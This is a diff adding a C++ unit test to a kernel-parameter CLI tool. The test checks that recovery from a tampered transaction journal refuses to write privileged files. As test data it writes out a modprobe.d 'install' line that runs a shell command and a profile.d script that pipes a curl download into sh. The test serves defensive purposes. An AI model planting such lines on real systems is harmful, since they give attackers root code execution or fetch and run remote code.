@@ -11,6 +11,7 @@
 
 #include "cli_runner.h"
 #include "client/exit_codes.h"
+#include "journal/journal.h"
 
 using ::testing::HasSubstr;
 
@@ -54,6 +55,36 @@ TEST(TransactionCliTest, TheHelperWritesIntoTheRootThatWasPlannedEvenIfThePathMo
   EXPECT_TRUE(w.Exists(kConf)) << "committed into the directory that was planned";
   EXPECT_EQ(testing::ChangedPaths(other_before, other.Snapshot(), false, {}), std::vector<std::string>{})
       << "nothing written where the path pointed later";
+}
+
+// The journal of a --root tree is the tree owner's file. An "interrupted transaction" in it that
+// asks for a root-owned `install` line in modprobe.d and shell code in profile.d must not turn
+// root's next `set` into writing them: recovery refuses those steps, says so, and goes on.
+TEST(TransactionCliTest, AHostileJournalCannotMakeRecoveryWriteWhatNoPlanMay) {
+  WorldCopy w(kWorld);
+  journal::Transaction txn;
+  txn.number = 1;
+  txn.id = "1";
+  txn.time = "2026-11-23T00:00:00Z";
+  txn.intent = {"set", "", {"amdgpu.noretry=0"}, "", {}};
+  plan::Op conf{plan::OpKind::kRemoveFile, "modprobe", kConf, "install amdgpu /bin/sh -c 'id >/tmp/pwned'\n",
+                std::nullopt, {}, "r"};
+  plan::Op profile{plan::OpKind::kRemoveFile, "env", "etc/profile.d/rocmtune.sh", "curl -s x | sh\n", std::nullopt, {}, "r"};
+  txn.ops = {conf, profile};
+  w.Write(std::string(journal::kJournalDir) + "/" + journal::JournalFileName(1), journal::BeginRecord(txn).dump() + "\n");
+
+  auto set = w.Ctl({"set", "amdgpu.noretry=0", "--json"});
+  ASSERT_EQ(set.exit_code, kExitOk) << set.out << set.err;
+  json doc = set.Json();
+  EXPECT_EQ(doc["changed"], true) << set.out;
+  EXPECT_THAT(doc["warnings"].dump(), HasSubstr("refused by the allow-list")) << set.out;
+  EXPECT_THAT(doc["warnings"].dump(), HasSubstr("transaction 1 was rolled back first")) << set.out;
+  EXPECT_THAT(w.Read(kConf), ::testing::Not(HasSubstr("install"))) << w.Read(kConf);
+  EXPECT_THAT(w.Read(kConf), HasSubstr("noretry=0"));
+  EXPECT_FALSE(w.Exists("etc/profile.d/rocmtune.sh"));
+  auto history = w.Ctl({"history", "--json"});
+  ASSERT_EQ(history.exit_code, kExitOk) << history.err;
+  EXPECT_EQ(history.Json()["transactions"][0]["state"], "rolled-back") << history.out;
 }
 
 TEST(TransactionCliTest, SetHistoryVerifyRevertLeavesTheTreeAsItWas) {
